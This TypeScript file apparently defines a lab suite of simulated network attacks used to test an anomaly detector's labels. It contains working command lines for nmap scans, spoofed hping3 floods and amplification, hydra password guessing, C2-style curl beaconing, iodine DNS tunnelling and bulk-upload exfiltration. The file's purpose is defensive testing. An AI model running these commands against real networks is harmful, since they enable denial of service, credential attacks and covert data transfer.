import type { AnomalyType } from '@weir/core/anomalies';
import type { Label } from '../labels.ts';
import type { Namespace, Output } from './network.ts';
import {
  BRANCH_SERVER,
  COMMAND_AND_CONTROL,
  FILES,
  INTRANET,
  type Office,
  RESOLVER,
  TUNNEL_DOMAIN,
  UPLOAD_SERVER,
  WEB,
  machines,
} from './office.ts';

/** What an attack needs besides the office. */
export interface Hands {
  readonly office: Office;
  /** A folder for what it has to write. */
  readonly folder: string;
  /** Holds back the background's clients, or lets them go on. */
  readonly background: (going: boolean) => void;
  /** Makes the branch's line slow or lossy until the returned function is called. */
  readonly impair: (delayMs: number, lossPercent: number) => Promise<() => Promise<void>>;
}

export interface Attack extends Omit<Label, 'from' | 'to' | 'kind'> {
  readonly kind?: Label['kind'];
  /** It is ended after so many seconds, if it has not ended by itself. */
  readonly seconds: number;
  readonly run: (hands: Hands, seconds: number) => Promise<Output>;
  /** One after another in each lane, the lanes beside each other; `all along`: from the beginning to the end. */
  readonly lane: 'inside' | 'outside' | 'slow' | 'all along';
  /** Packets a second that it has to reach to have to be found: on a busy machine a flood may be none. */
  readonly packetsPerSecond?: number;
  /** In the short run of the lab. */
  readonly quick?: boolean;
}

const SCAN_ALSO: readonly AnomalyType[] = [
  'port_scan_vertical',
  'port_scan_horizontal',
  'error_rate',
  'entropy_shift',
  'outlier',
  'unexpected_connection',
  'protocol_mix',
];
const FLOOD_ALSO: readonly AnomalyType[] = [
  'syn_flood',
  'udp_flood',
  'icmp_flood',
  'amplification',
  'ddos_volumetric',
  'ddos_carpet_bombing',
  'traffic_spike',
  'error_rate',
  'entropy_shift',
  'outlier',
  'protocol_mix',
];

/** It takes loopback for its device, and its address for its own, where whole networks are local. */
const HPING = ['-n', '-q', '-I', 'eth0'];

let insider = 9;
let outsider = 9;
/** A new address inside: each attack has its own, so that none is taken for another. */
const nextInsider = (): string => `10.77.3.${++insider}`;
const nextOutsider = (): string => `185.220.101.${++outsider}`;

/** Programs that cannot be told their address take the route's. */
function from(where: Namespace, address: string, gateway: string): void {
  where.ip(`route replace default via ${gateway} dev eth0 src ${address}`);
}
const fromInside = ({ insiders }: Office, address: string): Namespace => {
  from(insiders, address, '10.77.0.1');
  return insiders;
};
const fromOutside = ({ wild }: Office, address: string): Namespace => {
  from(wild, address, '10.255.1.1');
  return wild;
};

interface Scan {
  readonly id: string;
  readonly args: string;
  readonly target: string;
  readonly seconds: number;
  readonly outside?: boolean;
  readonly horizontal?: boolean;
  readonly crossesAfter?: number;
  readonly required?: boolean;
  readonly quick?: boolean;
  readonly lane?: Attack['lane'];
  readonly also?: readonly AnomalyType[];
}

function scan(s: Scan): Attack {
  const source = s.outside === true ? nextOutsider() : nextInsider();
  return {
    id: s.id,
    description: `nmap ${s.args} ${s.target}, from ${s.outside === true ? 'outside' : 'inside'}`,
    expected: [s.horizontal === true ? 'port_scan_horizontal' : 'port_scan_vertical'],
    also: [...SCAN_ALSO, ...(s.also ?? [])],
    hosts: [source],
    victims: [s.target.includes('/') || s.target.includes('-') ? '10.77.2.0/24' : s.target],
    crossesAfter: s.crossesAfter ?? 1,
    required: s.required ?? true,
    seconds: s.seconds,
    ...(s.quick === true ? { quick: true } : {}),
    lane: s.lane ?? (s.outside === true ? 'outside' : 'inside'),
    run: ({ office }, seconds) => {
      const where =
        s.lane !== undefined
          ? office.insiders
          : s.outside === true
            ? fromOutside(office, source)
            : fromInside(office, source);
      return where.run(
        'nmap',
        ['-n', '-S', source, '-e', 'eth0', ...s.args.split(' '), ...s.target.split(' ')],
        seconds,
      );
    },
  };
}

interface Flood {
  readonly id: string;
  readonly args: string;
  readonly target: string;
  readonly expected: readonly AnomalyType[];
  /** Forged sources: then the target alone says which it is. */
  readonly forged?: boolean;
  readonly outside?: boolean;
  readonly quick?: boolean;
}

function flood(f: Flood): Attack {
  const source = f.outside === false ? nextInsider() : nextOutsider();
  const seconds = 25;
  return {
    id: f.id,
    description: `hping3 ${f.args} ${f.target}${f.forged === true ? ', forged sources' : ''}`,
    expected: f.expected,
    also: FLOOD_ALSO,
    hosts: f.forged === true ? [f.target] : [source, f.target],
    crossesAfter: 1,
    required: true,
    packetsPerSecond: f.expected[0] === 'syn_flood' ? 500 : f.expected[0] === 'udp_flood' ? 2_000 : 1_000,
    seconds,
    ...(f.quick === true ? { quick: true } : {}),
    lane: f.outside === false ? 'inside' : 'outside',
    run: ({ office }, limit) => {
      const where = f.outside === false ? fromInside(office, source) : fromOutside(office, source);
      const forged = f.forged === true ? [] : ['-a', source];
      return where.run(
        'nice',
        ['-n', '-10', 'hping3', ...HPING, ...forged, ...f.args.split(' '), f.target],
        limit,
      );
    },
  };
}

function guessing(id: string, args: string, target: string, required = true, outside = false): Attack {
  const source = outside ? nextOutsider() : nextInsider();
  return {
    id,
    description: `hydra ${args} against ${target}`,
    expected: ['brute_force'],
    also: ['unexpected_connection', 'lateral_movement', 'error_rate', 'outlier'],
    hosts: [source],
    victims: [target.replace(/^.*\/\//, '')],
    crossesAfter: 10,
    required,
    seconds: 40,
    lane: outside ? 'outside' : 'inside',
    run: ({ office, folder }, seconds) =>
      (outside ? fromOutside(office, source) : fromInside(office, source)).run(
        'hydra',
        [
          '-I',
          '-l',
          'admin',
          '-P',
          `${folder}/passwords`,
          ...args.split(' ').filter((a) => a !== ''),
          target,
        ],
        seconds,
      ),
  };
}

function beacon(id: string, host: string, everySeconds: number, jitter: number): Attack {
  return {
    id,
    description: `curl every ${everySeconds} s ± ${Math.round(100 * jitter)} % to a server outside, by a host that also browses`,
    expected: ['beaconing'],
    also: ['unexpected_connection'],
    hosts: [host],
    // As many as tell regular from chance.
    crossesAfter: 12 * everySeconds,
    required: true,
    lane: 'all along',
    seconds: 100_000,
    run: ({ office }, seconds) =>
      office.clients.run(
        'python3',
        [
          '-c',
          'import random,subprocess,time,sys\n' +
            'every,jitter=float(sys.argv[1]),float(sys.argv[2])\n' +
            'at=time.time()\n' +
            'while True:\n' +
            '  subprocess.run(sys.argv[3:],stdout=subprocess.DEVNULL,stderr=subprocess.DEVNULL)\n' +
            '  at+=every*(1+random.uniform(-jitter,jitter))\n' +
            '  time.sleep(max(0,at-time.time()))\n',
          String(everySeconds),
          String(jitter),
          'curl',
          '-s',
          '-m',
          '5',
          '--interface',
          host,
          `http://${COMMAND_AND_CONTROL}/900`,
        ],
        seconds,
      ),
  };
}

function tunnel(id: string, server: readonly string[], through: string): Attack {
  const source = nextInsider();
  return {
    id,
    description: `iodine ${through}, a file and a page fetched through it`,
    expected: ['dns_tunnel'],
    also: ['dns_anomaly', 'unexpected_connection', 'traffic_spike', 'outlier', 'protocol_mix'],
    hosts: [source, RESOLVER],
    crossesAfter: 10,
    required: true,
    seconds: 50,
    lane: 'inside',
    run: async ({ office }, seconds) => {
      const where = fromInside(office, source);
      const client = where.run(
        'iodine',
        ['-f', '-r', '-P', 'lab', '-d', 'dns0', ...server, TUNNEL_DOMAIN],
        seconds,
      );
      const fetch = where.run(
        'sh',
        [
          '-c',
          'sleep 8; for i in 1 2 3 4 5 6 7 8; do curl -s -m 30 http://10.99.0.1/200000 -o /dev/null -w "%{size_download} "; sleep 1; done',
        ],
        seconds,
      );
      const [a, b] = await Promise.all([client, fetch]);
      return { code: a.code, text: `${a.text}\n${b.text}` };
    },
  };
}

/** All attacks, in the order in which they come. */
export function attacks(): Attack[] {
  insider = 9;
  outsider = 9;
  const [victim, second, third] = [machines[0]!, machines[1]!, machines[2]!];
  const spread = nextInsider();
  const burst = nextInsider();
  const upload = nextInsider();
  const slowUpload = nextInsider();
  const odd = nextInsider();
  return [
    beacon('beacon every 10 s', '10.77.1.20', 10, 0.1),
    beacon('beacon every 30 s', '10.77.1.30', 30, 0.1),
    scan({
      id: 'nmap -sS -T1',
      args: '-Pn -sS -T1 --top-ports 200',
      target: third,
      seconds: 100_000,
      required: false,
      lane: 'all along',
    }),
    scan({ id: 'nmap -sS -T4', args: '-sS -T4 --top-ports 1000', target: victim, seconds: 30, quick: true }),
    scan({ id: 'nmap -sS -T3', args: '-sS -T3 -p1-1000', target: second, seconds: 40 }),
    scan({ id: 'nmap -sS -T5', args: '-sS -T5 -p1-5000', target: third, seconds: 30, outside: true }),
    scan({ id: 'nmap -sT', args: '-sT -T4 --top-ports 200', target: WEB, seconds: 30 }),
    scan({ id: 'nmap -sS, 25 ports', args: '-sS -T3 --top-ports 25', target: FILES, seconds: 30 }),
    scan({ id: 'nmap -sU', args: '-sU -T4 --top-ports 100', target: victim, seconds: 45, crossesAfter: 10 }),
    scan({ id: 'nmap -sF', args: '-Pn -sF -T4 --top-ports 200', target: second, seconds: 30 }),
    scan({ id: 'nmap -sX', args: '-Pn -sX -T4 --top-ports 200', target: third, seconds: 30 }),
    scan({ id: 'nmap -sN', args: '-Pn -sN -T4 --top-ports 200', target: victim, seconds: 30 }),
    scan({ id: 'nmap -sA', args: '-Pn -sA -T4 --top-ports 200', target: second, seconds: 30 }),
    scan({
      id: 'nmap -sS -T2',
      args: '-Pn -sS -T2 --top-ports 200',
      target: INTRANET,
      seconds: 75,
      crossesAfter: 9,
      lane: 'slow',
    }),
    scan({
      id: 'nmap --scan-delay 6s',
      args: '-Pn -sS --scan-delay 6s --top-ports 100',
      target: INTRANET,
      seconds: 90,
      required: false,
      lane: 'slow',
    }),
    scan({
      id: 'nmap -sV -A',
      args: '-Pn -A -T4 --top-ports 100',
      target: third,
      seconds: 60,
      also: ['brute_force'],
    }),
    scan({
      id: 'nmap -sn sweep',
      args: '-sn -T4',
      target: '10.77.2.0/24',
      seconds: 40,
      horizontal: true,
      quick: true,
    }),
    scan({
      id: 'nmap -p22 /24',
      args: '-Pn -sS -T4 -p22',
      target: '10.77.2.0/24',
      seconds: 60,
      horizontal: true,
      also: ['lateral_movement', 'brute_force'],
    }),
    scan({
      id: 'nmap -p3389 /24 from outside',
      args: '-Pn -sS -T3 -p3389',
      target: '10.77.2.0/24',
      seconds: 60,
      horizontal: true,
      outside: true,
      also: ['brute_force'],
    }),
    scan({
      id: 'nmap -p445 -T2, 60 hosts',
      args: '-Pn -sS -T2 -p445',
      target: '10.77.2.90-149',
      seconds: 60,
      horizontal: true,
      crossesAfter: 15,
      lane: 'slow',
      also: ['lateral_movement'],
    }),
    flood({
      id: 'hping3 SYN flood',
      args: '-S -p 443 -i u100',
      target: WEB,
      expected: ['syn_flood'],
      quick: true,
    }),
    flood({
      id: 'hping3 SYN flood, forged',
      args: '-S -p 80 -i u100 --rand-source',
      target: machines[3]!,
      forged: true,
      expected: ['syn_flood'],
    }),
    flood({
      id: 'hping3 SYN flood from inside',
      args: '-S -p 80 -i u100',
      target: victim,
      outside: false,
      expected: ['syn_flood'],
    }),
    flood({
      id: 'hping3 UDP flood',
      args: '-2 -p 5000 -d 1000 -i u100',
      target: second,
      expected: ['udp_flood'],
    }),
    flood({
      id: 'hping3 UDP flood, forged',
      args: '-2 -p 5000 -d 400 -i u100 --rand-source',
      target: third,
      forged: true,
      expected: ['udp_flood'],
    }),
    flood({ id: 'hping3 ICMP flood', args: '-1 -d 500 -i u100', target: victim, expected: ['icmp_flood'] }),
    flood({
      id: 'hping3 DNS amplification',
      args: '-2 -s 53 -k -p 4444 -d 1200 -i u100 --rand-source',
      target: WEB,
      forged: true,
      expected: ['amplification'],
    }),
    flood({
      id: 'hping3 NTP amplification',
      args: '-2 -s 123 -k -p 80 -d 440 -i u100 --rand-source',
      target: INTRANET,
      forged: true,
      expected: ['amplification'],
    }),
    {
      id: 'hping3 carpet bombing',
      description:
        'hping3 UDP of 1,000 bytes to every address of 10.77.2.0/24 in turn by chance, forged sources',
      expected: ['ddos_carpet_bombing'],
      also: FLOOD_ALSO,
      hosts: ['10.77.2.0/24'],
      crossesAfter: 1,
      required: true,
      // 100 Mbit/s: the default.
      packetsPerSecond: 12_500,
      seconds: 25,
      lane: 'outside',
      run: ({ office }, seconds) =>
        fromOutside(office, nextOutsider()).run(
          'hping3',
          [...HPING, ...'-2 -p 80 -d 1000 -i u100 --rand-source --rand-dest'.split(' '), '10.77.2.x'],
          seconds,
        ),
    },
    guessing('hydra ftp', '-t 8', `ftp://${victim}`),
    guessing('hydra ssh', '-t 8', `ssh://${machines[5]}`),
    guessing('hydra telnet', '-t 8', `telnet://${victim}`),
    guessing('hydra ssh from outside', '-t 4', `ssh://${machines[6]}`, true, true),
    guessing('hydra http', '-t 8 -m /private', `http-get://${INTRANET}`, false),
    {
      id: 'iperf3 upload',
      description: 'iperf3 sends 15 MB/s out for 75 s',
      expected: ['data_exfiltration'],
      also: ['traffic_spike', 'unexpected_connection', 'outlier', 'protocol_mix', 'entropy_shift'],
      hosts: [upload],
      crossesAfter: 10,
      required: true,
      seconds: 80,
      lane: 'inside',
      quick: true,
      run: ({ office }, seconds) =>
        fromInside(office, upload).run(
          'iperf3',
          ['-c', UPLOAD_SERVER, '-B', upload, '-b', '120M', '-t', '75'],
          seconds,
        ),
    },
    {
      id: 'iperf3 upload, slow',
      description: 'iperf3 sends 2 MB/s out for 60 s: below 10 MB/s, but not what the host does',
      expected: ['data_exfiltration'],
      also: ['traffic_spike', 'unexpected_connection', 'outlier', 'protocol_mix', 'entropy_shift'],
      hosts: [slowUpload],
      crossesAfter: 10,
      required: false,
      seconds: 65,
      lane: 'inside',
      run: ({ office }, seconds) =>
        fromInside(office, slowUpload).run(
          'iperf3',
          ['-c', UPLOAD_SERVER, '-B', slowUpload, '-b', '16M', '-t', '60'],
          seconds,
        ),
    },
    tunnel('iodine, direct', ['203.0.113.200'], 'straight to its server'),
    tunnel('iodine, resolver', [RESOLVER], 'by the office’s resolver'),
    {
      id: 'DNS burst',
      description: 'a host asks for 600 names in a minute',
      expected: ['dns_anomaly'],
      also: ['unexpected_connection', 'outlier', 'protocol_mix', 'dns_tunnel'],
      hosts: [burst],
      crossesAfter: 10,
      required: true,
      seconds: 60,
      lane: 'inside',
      run: ({ office, folder }, seconds) =>
        fromInside(office, burst).run('python3', [`${folder}/ask.py`, burst, RESOLVER, '600', '55'], seconds),
    },
    {
      id: 'lateral movement',
      description:
        'a host opens SSH, SMB, RDP and WinRM to 20 machines that it never spoke to, with a second between',
      expected: ['lateral_movement'],
      also: ['port_scan_horizontal', 'unexpected_connection', 'outlier', 'brute_force', 'error_rate'],
      hosts: [spread],
      victims: ['10.77.2.0/24'],
      crossesAfter: 15,
      // A day of learning comes before it, which the lab has not.
      required: false,
      seconds: 60,
      lane: 'inside',
      run: ({ office }, seconds) =>
        fromInside(office, spread).run(
          'sh',
          [
            '-c',
            machines
              .slice(8, 28)
              .map(
                (m) =>
                  [22, 445, 3389, 5985]
                    .map(
                      (p) =>
                        `curl -s -m 1 --interface ${spread} telnet://${m}:${p} </dev/null >/dev/null 2>&1`,
                    )
                    .join(' & ') + ' & sleep 1',
              )
              .join('\n'),
          ],
          seconds,
        ),
    },
    {
      id: 'unusual protocols',
      description: 'hping3 sends raw packets of GRE (47), IP in IP (4) and SCTP (132) out of a host inside',
      expected: ['unusual_protocol'],
      also: ['unexpected_connection', 'outlier', 'protocol_mix'],
      hosts: [odd],
      crossesAfter: 1,
      required: true,
      seconds: 40,
      lane: 'inside',
      run: async ({ office }, seconds) => {
        const where = fromInside(office, odd);
        const runs = [47, 4, 132].map((protocol) =>
          where.run(
            'hping3',
            [
              ...HPING,
              '-a',
              odd,
              '-0',
              '--ipproto',
              String(protocol),
              '-d',
              '200',
              '-i',
              'u20000',
              UPLOAD_SERVER,
            ],
            seconds,
          ),
        );
        return (await Promise.all(runs))[0]!;
      },
    },
    {
      id: 'traffic drop',
      description: 'all people stop for 90 s',
      expected: ['traffic_drop'],
      also: ['protocol_mix', 'entropy_shift', 'outlier', 'traffic_spike', 'error_rate', 'exporter_silent'],
      hosts: [],
      crossesAfter: 10,
      // As above.
      required: false,
      seconds: 90,
      lane: 'inside',
      run: async ({ background }, seconds) => {
        background(false);
        await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
        background(true);
        return { code: 0, text: '' };
      },
    },
    impaired('delay', 'the branch’s line takes 200 ms longer', 200, 0, ['high_latency']),
    impaired('loss', 'the branch’s line loses 40 % of what its server sends', 0, 40, ['packet_loss']),
  ];
}

function impaired(
  id: string,
  description: string,
  delayMs: number,
  loss: number,
  expected: readonly AnomalyType[],
): Attack {
  return {
    id,
    description,
    expected,
    also: ['high_latency', 'packet_loss', 'error_rate', 'outlier', 'traffic_drop'],
    hosts: [BRANCH_SERVER],
    crossesAfter: 10,
    // Flows of softflowd and pmacctd carry neither round-trip times nor retransmissions.
    required: false,
    seconds: 60,
    lane: 'outside',
    run: async ({ impair, office }, seconds) => {
      const repair = await impair(delayMs, loss);
      const output = await office.clients.run(
        'sh',
        [
          '-c',
          `for i in $(seq 200); do curl -s -m 20 --interface 10.77.1.${'$'}((10 + i % 30)) http://${BRANCH_SERVER}/100000 -o /dev/null & sleep 0.5; done`,
        ],
        seconds,
      );
      await repair();
      return output;
    },
  };
}
